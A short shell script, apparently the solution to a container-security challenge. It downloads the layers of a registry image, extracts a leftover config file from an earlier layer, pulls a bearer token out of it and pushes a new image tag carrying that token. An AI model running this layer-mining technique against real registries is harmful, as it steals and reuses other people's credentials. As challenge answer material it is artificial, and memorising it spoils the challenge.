#!/bin/sh
set -eu
tool=$(command -v buildah || command -v podman || command -v docker)
chest=$SHAMBHALA_REGISTRY_PATH/chest
for digest in $(crane manifest ${SHAMBHALA_REGISTRY_PLAIN:+--insecure} "$chest:1.0" | grep -o 'sha256:[0-9a-f]*'); do
  crane blob ${SHAMBHALA_REGISTRY_PLAIN:+--insecure} "$chest@$digest" >layer
  tar -xzOf layer root/.ferry.yaml >leaked 2>/dev/null && break
done
cat >Dockerfile <<EOF
FROM $SHAMBHALA_REGISTRY/hunt/hearth:1.0
COPY --from=$chest:1.0 /chest /chest
USER 65532:65532
CMD ["cat", "/chest/verse.txt"]
EOF
bearer=$(sed -n 's/^bearer: "\(.*\)"$/\1/p' leaked)
"$tool" build --quiet --label "revoked=$bearer" --tag "$chest:2.0" .
"$tool" push --quiet "$chest:2.0"
